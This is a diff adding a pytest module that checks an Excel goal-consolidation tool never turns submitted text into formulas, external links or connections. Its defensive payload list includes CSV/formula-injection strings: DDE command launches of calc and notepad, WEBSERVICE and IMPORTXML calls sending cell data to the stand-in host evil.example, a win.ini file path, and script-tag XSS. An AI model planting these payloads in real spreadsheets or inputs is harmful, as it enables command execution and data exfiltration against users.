@@ -1,0 +1,150 @@
+"""No text of a unit becomes a formula, a link or an address of anything, wherever we write it."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+from xml.sax.saxutils import escape
+
+import pytest
+
+from tests.support import crafted
+from tests.support.books import write_submission
+from xlgoals import operations
+from xlgoals.read.opening import open_book
+
+_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", " =", "'=", '"=', "=+", "=-", "==")
+_BODIES = (
+    "1+1",
+    "cmd|'/c calc'!A0",
+    'HYPERLINK("http://evil.example","点")',
+    'WEBSERVICE("http://evil.example/?"&A1)',
+    "'[evil.xlsx]Sheet1'!A1",
+    'IMPORTXML(CONCAT("http://evil.example"),"//a")',
+    "SUM(1,2)*cmd|' /C notepad'!'A1'",
+)
+_OTHERS = (
+    *("http://evil.example", "https://evil.example/a.exe", "ftp://evil.example", "mailto:a@evil.example"),
+    *("file:///c:/windows/win.ini", "\\\\evil\\share\\a.xlsx", "internal:'项目'!A1", "external:a.xlsx"),
+    *("{=1+1}", "<f>1+1</f>", "]]><f>1</f>", "&lt;f&gt;", "javascript:alert(1)", "<script>alert(1)</script>"),
+    *('DDE("cmd";"/c calc";"a")', "%0A=1+1", "_x003D_1+1", "_x000D_=1", "=1+1\u0000", "\ufeff=1+1"),
+)
+# Where a text may stand as a text; a chart keeps the names that it shows.
+TEXTS = ("xl/sharedStrings", "xl/worksheets/sheet", "xl/charts/chart")
+PAYLOADS = (*(start + body for start in _STARTS for body in _BODIES), *_OTHERS)
+
+
+@pytest.fixture(scope="module")
+def submission_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A unit's workbook with a payload in every text of every row."""
+    folder = tmp_path_factory.mktemp("in")
+    source = folder / "a.xlsx"
+    source.write_bytes(crafted.clean())
+    (base,) = operations.load(source)
+    project = base.projects[0]
+    one = project.indicators[0]
+    rows = tuple(
+        replace(one, name=payload, description=payload, target=payload, waiver=payload)
+        for payload in map(_storable, PAYLOADS)
+    )
+    project = replace(
+        project, indicators=rows, purpose=PAYLOADS[0], goals=PAYLOADS[1], waiver=PAYLOADS[2], type=PAYLOADS[3]
+    )
+    return write_submission(source, replace(base, projects=(project,), contact={"filler": PAYLOADS[1]}))
+
+
+def _storable(text: str) -> str:
+    """No cell holds a zero byte, not even escaped."""
+    return text.replace("\u0000", "\u0001")
+
+
+def formulas(path: Path) -> dict[str, int]:
+    """How many formulas, links and ways out each part of a workbook holds."""
+    found = {}
+    with zipfile.ZipFile(path) as package:
+        for name in package.namelist():
+            content = package.read(name)
+            if name.startswith("xl/worksheets/sheet"):
+                found[name] = len(re.findall(rb"<f[ >]", content))
+            assert b"evil.example" not in content or name.startswith(TEXTS), name
+            if name.startswith("xl/charts/"):
+                assert [text for text in re.findall(rb"<c:f>([^<]*)</c:f>", content) if b"evil" in text] == []
+            if name.endswith(".rels"):
+                assert b"evil" not in content, name
+            assert "externalLink" not in name
+            assert name != "xl/connections.xml"
+    return found
+
+
+def test_there_are_as_many_payloads_as_promised() -> None:
+    assert len(set(PAYLOADS)) >= 100
+
+
+def test_nothing_in_a_units_workbook_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
+    """The same rows with harmless texts give the same number of formulas: those of the template."""
+    (read,) = operations.load(submission_file)
+    assert [row.target for row in read.projects[0].indicators] == [_storable(text) for text in PAYLOADS]
+    harmless = [
+        replace(row, name="甲", description="乙", target="丙", waiver="丁")
+        for row in read.projects[0].indicators
+    ]
+    plain = replace(
+        read.projects[0], indicators=tuple(harmless), purpose="甲", goals="乙", waiver="丙", type="丁"
+    )
+    other = write_submission(
+        tmp_path / "plain.xlsx", replace(read, projects=(plain,), contact={"filler": "丁"})
+    )
+    assert formulas(submission_file) == formulas(other)
+
+
+def test_nothing_in_the_master_is_a_formula_but_ours(submission_file: Path, tmp_path: Path) -> None:
+    """Every formula of the master has no text of a unit in it, every link leads to a source or inside."""
+    target = tmp_path / "master.xlsx"
+    operations.consolidate([submission_file], target)
+    formulas(target)
+    book = open_book(target).book
+    texts = {cell.text for sheet in book.sheets for cell in sheet.cells.values()}
+    assert {_storable(text) for text in PAYLOADS} <= texts
+    told = [text for sheet in book.sheets for text in sheet.formulas.values()]
+    assert [text for text in told if re.search(r"cmd|evil|WEBSERVICE|IMPORTXML|HYPERLINK|DDE", text)] == []
+    for sheet in book.sheets:
+        payload_cells = {place for place, cell in sheet.cells.items() if cell.text in PAYLOADS}
+        assert payload_cells.isdisjoint(sheet.formulas)
+    with zipfile.ZipFile(target) as package:
+        rels = [package.read(name).decode() for name in package.namelist() if "worksheets/_rels" in name]
+    outside = [link for text in rels for link in re.findall(r'Target="([^"]*)" TargetMode="External"', text)]
+    assert {link.partition("#")[0].rpartition("/")[2] for link in outside} <= {submission_file.name}
+
+
+def test_nothing_in_the_printed_form_is_a_formula(submission_file: Path, tmp_path: Path) -> None:
+    operations.print_official(submission_file, tmp_path / "print.xlsx")
+    assert sum(formulas(tmp_path / "print.xlsx").values()) == 0
+
+
+def test_json_gives_the_texts_as_they_are(submission_file: Path) -> None:
+    done = subprocess.run(
+        [sys.executable, "-m", "xlgoals", "export", str(submission_file)], capture_output=True, check=True
+    )
+    document = json.loads(done.stdout)
+    assert all(json.dumps(_storable(text))[1:-1] in json.dumps(document) for text in PAYLOADS)
+
+
+def test_a_cell_of_the_submission_is_no_formula_even_when_it_says_so(tmp_path: Path) -> None:
+    """Payloads stored by another program as text, in the cell itself, reach the master as text."""
+    path = tmp_path / "a.xlsx"
+    path.write_bytes(crafted.with_parts({crafted.INDICATORS: crafted.text("E4", escape(PAYLOADS[1]))}))
+    operations.consolidate([path], tmp_path / "m.xlsx")
+    sheets = open_book(tmp_path / "m.xlsx").book.sheets
+    found = [
+        sheet.formulas.get(place)
+        for sheet in sheets
+        for place, cell in sheet.cells.items()
+        if cell.text == PAYLOADS[1]
+    ]
+    assert found
+    assert set(found) == {None}
